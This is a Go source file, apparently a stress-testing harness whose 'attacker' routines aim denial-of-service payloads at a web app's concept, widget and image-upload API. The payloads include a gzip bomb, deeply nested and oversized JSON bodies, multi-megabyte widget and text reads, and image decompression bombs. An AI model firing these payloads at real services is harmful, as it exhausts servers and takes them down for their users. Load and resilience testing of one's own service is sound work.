package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
)

const (
	largeTexts     = 20
	largeTextBytes = 4_000_000
)

// writeLargeTexts stores 20 public values of 4 MB each.
func writeLargeTexts(ctx context.Context, a *arena) error {
	if err := signUpAttacker(ctx, a); err != nil {
		return err
	}
	for i := range largeTexts {
		text := strings.Repeat(fmt.Sprintf("%03d large text ", i), largeTextBytes/15)
		id, err := a.writeBatch(ctx, []any{concept(-1, "the_text", text)}, nil)
		if err != nil {
			return err
		}
		a.ids = append(a.ids, id)
	}
	a.token = "" // the readers are guests
	return nil
}

// readLargeTexts reads all large values in one response of 80 MB.
func readLargeTexts(ctx context.Context, a *attacker) {
	a.send(ctx, attackRequest{"POST", "/api/get_concept_bulk", jsonHeader(), strings.NewReader(a.listOfIDs())})
}

func (a *arena) listOfIDs() string {
	text, err := json.Marshal(a.ids)
	if err != nil {
		panic(err) // numbers can always be encoded
	}
	return string(text)
}

const widgets = 12

// writeWidgets stores public widgets with 4 MB of small elements each, and a child of the same size.
func writeWidgets(ctx context.Context, a *arena) error {
	if err := signUpAttacker(ctx, a); err != nil {
		return err
	}
	for i := range widgets {
		child, err := a.writeWidget(ctx, fmt.Sprintf("child %d", i), 0)
		if err != nil {
			return err
		}
		id, err := a.writeWidget(ctx, fmt.Sprintf("root %d", i), child)
		if err != nil {
			return err
		}
		a.ids = append(a.ids, id)
	}
	a.token = "" // the readers are guests
	return nil
}

func (a *arena) writeWidget(ctx context.Context, name string, child int64) (int64, error) {
	html := strings.Repeat("<p class=a><b>"+name+"</b></p>", 3_900_000/(21+len(name))) + `<div id="place"></div>`
	concepts := []any{composition(-1, "the_widget"), concept(-2, "the_name", name), concept(-3, "the_html", html)}
	connections := []any{connection(-4, -1, -2, "the_widget_name"), connection(-5, -1, -3, "the_widget_html")}
	if child != 0 {
		concepts = append(concepts, composition(-6, "the_child_widget"), concept(-7, "the_wrapper", "place"))
		connections = append(connections, connection(-8, -1, -6, "the_widget_s_child"), connection(-9, -6, -7, "the_child_widget_wrapper"),
			connection(-10, -6, child, "the_child_widget_info"))
	}
	return a.writeBatch(ctx, concepts, connections)
}

// readWidget loads one of the widgets with everything inside it.
func readWidget(ctx context.Context, a *attacker) {
	id := a.ids[(a.number+a.round)%len(a.ids)]
	path := "/api/v1/widgets?id="
	if a.number%4 == 3 {
		path = "/api/get-widget?id="
	}
	a.send(ctx, attackRequest{"GET", path + fmt.Sprint(id), nil, nil})
}

// bomb sends a body that is cheap to create and costly to decode.
func bomb(ctx context.Context, a *attacker) {
	const size = 31 << 20
	header := jsonHeader()
	var body io.Reader
	switch (a.number + a.round) % 5 {
	case 0:
		header.Set("Content-Encoding", "gzip")
		body = bytes.NewReader(compressedZeros())
	case 1:
		body = io.LimitReader(repeated("["), size)
	case 2:
		body = io.MultiReader(strings.NewReader(`{"concepts":[{}`), io.LimitReader(repeated(`,{}`), size))
	case 3:
		body = io.LimitReader(repeated(" "), size)
	default:
		body = io.MultiReader(strings.NewReader(`{"concepts":[{"characterValue":"`), io.LimitReader(repeated(`\u0000`), size))
	}
	a.send(ctx, attackRequest{"POST", "/api/v1/local-concepts", header, body})
}

// compressedZeros returns a gigabyte of zeros, compressed to a megabyte.
var compressedZeros = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.CopyN(w, repeated("\x00"), 1<<30) // writing to memory does not fail
	_ = w.Close()
	return b.Bytes()
})

// repeated is a reader that repeats a string endlessly.
type repeated string

// Read implements io.Reader. Each call starts at the beginning of the string.
func (r repeated) Read(b []byte) (int, error) {
	n := 0
	for n+len(r) <= len(b) {
		n += copy(b[n:], r)
	}
	if n == 0 {
		n = copy(b, r)
	}
	return n, nil
}

// uploadPicture uploads the pictures that cost the most to decode.
func uploadPicture(ctx context.Context, a *attacker) {
	const boundary = "X"
	bomb := acceptedBomb
	if (a.number+a.round)%2 == 0 {
		bomb = refusedBomb
	}
	body := "--X\r\nContent-Disposition: form-data; name=\"image\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" + bomb() + "\r\n--X--\r\n"
	header := http.Header{"Content-Type": {"multipart/form-data; boundary=" + boundary}}
	a.send(ctx, attackRequest{"POST", "/api/Image/UploadImage", header, strings.NewReader(body)})
}

func jsonHeader() http.Header { return http.Header{"Content-Type": {"application/json"}} }
